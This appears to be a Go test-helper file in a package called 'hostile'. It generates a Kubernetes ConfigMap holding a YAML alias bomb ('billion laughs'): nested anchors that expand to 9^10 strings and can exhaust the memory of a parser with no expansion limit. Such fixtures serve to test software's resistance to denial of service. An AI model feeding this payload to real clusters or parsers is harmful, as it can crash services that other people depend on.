package hostile

import (
	"fmt"
	"strings"
)

// AliasBomb returns a ConfigMap named name of a few hundred bytes whose
// YAML aliases expand to 9^10 strings: a parser that expands aliases
// without a limit needs gigabytes for it.
func AliasBomb(name string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: %s}\ndata:\n", name)
	b.WriteString(`  a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]` + "\n")
	for i := 1; i < 10; i++ {
		refs := strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d,", i-1), 9), ",")
		fmt.Fprintf(&b, "  a%d: &a%d [%s]\n", i, i, refs)
	}
	return b.String()
}
